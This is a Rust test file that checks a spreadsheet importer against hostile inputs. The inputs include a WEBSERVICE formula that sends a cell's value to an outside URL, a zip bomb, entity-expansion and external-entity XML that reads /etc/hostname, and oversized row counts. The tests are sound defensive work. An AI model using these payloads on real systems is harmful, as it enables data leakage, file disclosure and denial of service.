use std::io::Cursor;

use many_doors_exchange::{
    Outcome, Progress, Reason,
    sheet::{self, SheetError, for_spreadsheet},
};
use rust_xlsxwriter::{Formula, Workbook as Writer};
use zip::{ZipArchive, ZipWriter};

use crate::support::{bring, bring_with, cells, ods, ods_of, open, xlsx, zip};

const NO_TEXTS: &str = r#"<sst count="0" uniqueCount="0"></sst>"#;

fn refused(bytes: Vec<u8>) -> SheetError {
    match sheet::open(bytes, "list.xlsx") {
        Err(error) => error,
        Ok(workbook) => {
            let name = workbook.sheets()[0].name.clone();
            workbook.rows(&name, Progress::none()).unwrap_err()
        }
    }
}

#[test]
fn formulas_stay_text_and_are_harmless_in_what_we_write() {
    let formula = "=HYPERLINK(\"https://example.org\",\"Example\")";
    let came = bring(&format!("Name,Phone,Notes\nOne,555-555-0100,\"{}\"\n", formula.replace('"', "\"\"")), |_| {});
    assert_eq!(came.column("service", "md_notes"), [formula]);
    assert_eq!(for_spreadsheet(came.column("service", "md_notes")[0]), format!("'{formula}"));
}

#[test]
fn a_formula_of_a_workbook_is_what_its_program_had_shown_and_errors_are_empty() {
    let mut book = Writer::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "Name").unwrap();
    sheet.write_string(0, 1, "Phone").unwrap();
    sheet.write_string(1, 0, "One").unwrap();
    let call = "=WEBSERVICE(\"https://example.org/?\"&A1)";
    sheet.write_formula(1, 1, Formula::new(call).set_result("555-555-0100")).unwrap();
    sheet.write_string(2, 0, "Two").unwrap();
    sheet.write_formula(2, 1, Formula::new("=1/0").set_result("#DIV/0!")).unwrap();
    let workbook = open(&book.save_to_buffer().unwrap(), "list.xlsx");
    let rows = cells(&workbook, "Sheet1");
    assert_eq!(rows[1], ["One", "555-555-0100"]);
    let errors = r##"<row r="1"><c r="A1" t="str"><v>Name</v></c><c r="B1" t="e"><v>#SPILL!</v></c><c r="C1" t="e"><v>#REF!</v></c><c r="D1" t="str"><v>Phone</v></c></row>"##;
    assert_eq!(cells(&open(&xlsx(errors, NO_TEXTS, &[]), "a.xlsx"), "Sheet1")[0], ["Name", "", "", "Phone"]);
}

#[test]
fn one_cell_in_the_last_corner_does_not_ask_for_all_the_memory_there_is() {
    let corner = r#"<row r="1"><c r="A1" t="str"><v>Name</v></c></row><row r="1048576"><c r="A1048576" t="str"><v>Last</v></c><c r="XFD1048576" t="str"><v>far</v></c></row>"#;
    let rows = open(&xlsx(corner, NO_TEXTS, &[]), "a.xlsx").rows("Sheet1", Progress::none()).unwrap();
    assert_eq!(rows.rows.len(), 1);
    assert_eq!((rows.notices[0].reason, rows.notices[0].place.line), (Reason::TooLarge, Some(1_048_576)));
}

#[test]
fn a_claim_of_more_texts_than_there_is_memory_is_refused() {
    let claim = r#"<sst count="1" uniqueCount="1000000000000"><si><t>a</t></si></sst>"#;
    assert_eq!(refused(xlsx("", claim, &[])), SheetError::TooLarge);
}

#[test]
fn a_zip_bomb_is_refused_before_anything_reads_it() {
    // Packed once and copied as it is, because packing is slow.
    let nothing = zip(&[("nothing", &vec![0; 16 << 20])]);
    let small = zip(&[("[Content_Types].xml", b""), ("xl/workbook.xml", b"")]);
    let mut zip = ZipWriter::new_append(Cursor::new(small)).unwrap();
    for number in 0..33 {
        let mut nothing = ZipArchive::new(Cursor::new(&nothing)).unwrap();
        zip.raw_copy_file_rename(nothing.by_index(0).unwrap(), format!("xl/media/{number}")).unwrap();
    }
    assert_eq!(refused(zip.finish().unwrap().into_inner()), SheetError::TooLarge);
}

#[test]
fn repeated_cells_and_rows_are_counted_before_they_are_unfolded() {
    let cell = |repeats: &str| {
        format!(
            r#"<table:table-cell table:number-columns-repeated="{repeats}" office:value-type="string"><text:p>x</text:p></table:table-cell>"#
        )
    };
    let table = |rows: &str| ods("", &format!(r#"<table:table table:name="A">{rows}</table:table>"#));
    let far = table(&format!("<table:table-row>{}</table:table-row>", cell("18446744073709551615")));
    let rows = open(&far, "a.ods").rows("A", Progress::none()).unwrap();
    assert_eq!(rows.notices[0].reason, Reason::TooLarge);
    let deep = table(&format!(
        r#"<table:table-row table:number-rows-repeated="18446744073709551615">{}</table:table-row>"#,
        cell("2")
    ));
    assert_eq!(refused(deep), SheetError::TooManyRows);
}

#[test]
fn files_that_are_cut_short_are_damaged_and_end_at_once() {
    let whole = xlsx(
        r#"<row r="1"><c r="A1" t="str"><v>Name</v></c></row><row r="2"><c r="A2" t="str"><v>One</v></c></row>"#,
        NO_TEXTS,
        &[],
    );
    for length in 0..whole.len() {
        // Only an end without a directory is certain: it is the last thing in the file.
        if let Ok(workbook) = sheet::open(whole[..length].to_vec(), "a.xlsx") {
            assert!(length < 4, "{length} bytes were taken for {:?}", workbook.sheets());
        }
    }
    let content = r#"<office:document-content><table:table table:name="A"><table:table-row><table:table-cell office:value-type="string"><text:p>Name</text:p></table:table-cell></table:table-row>"#;
    // A whole table before it must not make the cut go unnoticed.
    let whole = r#"<table:table table:name="B"><table:table-row><table:table-cell/></table:table-row></table:table>"#;
    for length in content.find("<table:table-row").unwrap()..content.len() {
        let cut = format!("{whole}{}", &content[..length]);
        assert_eq!(refused(ods_of(cut.as_bytes())), SheetError::Damaged, "cut after {length} bytes");
    }
    let half = xlsx(r#"<row r="1"><c r="A1" t="str"><v>Name</v>"#, NO_TEXTS, &[]);
    assert_eq!(refused(half), SheetError::Damaged);
}

#[test]
fn entities_that_a_file_defines_itself_and_links_to_other_files_are_not_followed() {
    let laughs = r#"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/hostname">]>"#;
    let table = r#"<office:document-content><table:table table:name="A"><table:table-row><table:table-cell office:value-type="string"><text:p>Name&b;&c;</text:p></table:table-cell></table:table-row></table:table></office:document-content>"#;
    let workbook = open(&ods_of(format!("{laughs}{table}").as_bytes()), "a.ods");
    assert_eq!(cells(&workbook, "A"), [["Name"]]);
    let link: &[u8] = br#"<externalLink><externalBook r:id="rId1"/></externalLink>"#;
    let relation: &[u8] = br#"<Relationships><Relationship Id="rId1" Type="externalLinkPath" Target="file:///etc/hostname" TargetMode="External"/></Relationships>"#;
    let parts =
        [("xl/externalLinks/externalLink1.xml", link), ("xl/externalLinks/_rels/externalLink1.xml.rels", relation)];
    let row = r#"<row r="1"><c r="A1" t="str"><f>[1]Sheet1!A1</f><v>cached</v></c></row>"#;
    assert_eq!(cells(&open(&xlsx(row, NO_TEXTS, &parts), "a.xlsx"), "Sheet1"), [["cached"]]);
    let laughing = format!("{laughs}<sst uniqueCount=\"1\"><si><t>Name&b;&c;</t></si></sst>");
    let shared = r#"<row r="1"><c r="A1" t="s"><v>0</v></c></row>"#;
    if let Ok(workbook) = sheet::open(xlsx(shared, &laughing, &[]), "a.xlsx") {
        for cell in cells(&workbook, "Sheet1").into_iter().flatten() {
            assert!(cell.len() < 40, "{cell}");
        }
    }
}

#[test]
fn a_thousand_sheets_are_listed_and_the_one_that_is_meant_is_read() {
    let mut book = Writer::new();
    for number in 0..1_000 {
        let sheet = book.add_worksheet().set_name(format!("Sheet {number}")).unwrap();
        sheet.write_string(0, 0, "Name").unwrap();
        sheet.write_string(1, 0, format!("Row of {number}")).unwrap();
    }
    let workbook = open(&book.save_to_buffer().unwrap(), "a.xlsx");
    assert_eq!(workbook.sheets().len(), 1_000);
    assert_eq!(cells(&workbook, "Sheet 777")[1], ["Row of 777"]);
    assert_eq!(workbook.sheet("Sheet 1000").unwrap_err(), SheetError::SheetMissing("Sheet 1000".into()));
}

#[test]
fn too_many_rows_are_refused_as_a_whole_and_too_many_columns_as_a_row() {
    let many = format!("Name\n{}", "x\n".repeat(200_001));
    assert_eq!(refused(many.into_bytes()), SheetError::TooManyRows);
    let came = bring(&format!("Name,Phone\nOne{}last\nTwo,555-555-0100\n", ",".repeat(400)), |_| {});
    assert_eq!(came.lines(Outcome::Quarantined, Reason::TooLarge), [Some(2)]);
    assert_eq!(came.column("service", "name"), ["Two"]);
}

#[test]
fn a_row_of_a_megabyte_is_set_aside_and_a_file_too_large_is_not_opened() {
    let wide = vec!["y".repeat(60_000); 20].join(",");
    let came = bring(&format!("Name,Phone\n{wide}\nTwo,555-555-0100\n"), |_| {});
    assert_eq!(came.lines(Outcome::Quarantined, Reason::TooLarge), [Some(2)]);
    assert_eq!(came.column("service", "name"), ["Two"]);
    assert_eq!(sheet::open(vec![b'a'; (64 << 20) + 1], "a.csv").unwrap_err(), SheetError::TooLarge);
}

#[test]
fn a_workbook_of_nothing_but_parts_is_refused() {
    let names: Vec<String> = (0..10_100).map(|number| format!("xl/{number}")).collect();
    let mut parts: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), b"".as_slice())).collect();
    parts.push(("[Content_Types].xml", b""));
    parts.push(("xl/workbook.xml", b""));
    assert_eq!(refused(zip(&parts)), SheetError::TooLarge);
}

#[test]
fn a_stop_is_heard_while_rows_are_read() {
    let text = format!("Name,Phone\n{}", "One,555-555-0100\n".repeat(3_000));
    let workbook = open(text.as_bytes(), "a.csv");
    let stop = |done: u64, _: u64| done < 1_000;
    assert_eq!(workbook.rows("a", Progress::new(&stop)).unwrap_err(), SheetError::Stopped);
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), &text).unwrap();
    let opened = sheet::open_path(file.path(), Progress::new(&stop));
    assert_eq!(opened.unwrap_err(), SheetError::Stopped, "and while they are counted");
    let (mapping, _) = sheet::Mapping::guessed(&workbook, "a", "example").unwrap();
    let came = bring_with(&workbook, mapping);
    assert_eq!(came.column("service", "name").len(), 1, "the same row three thousand times is one row");
}
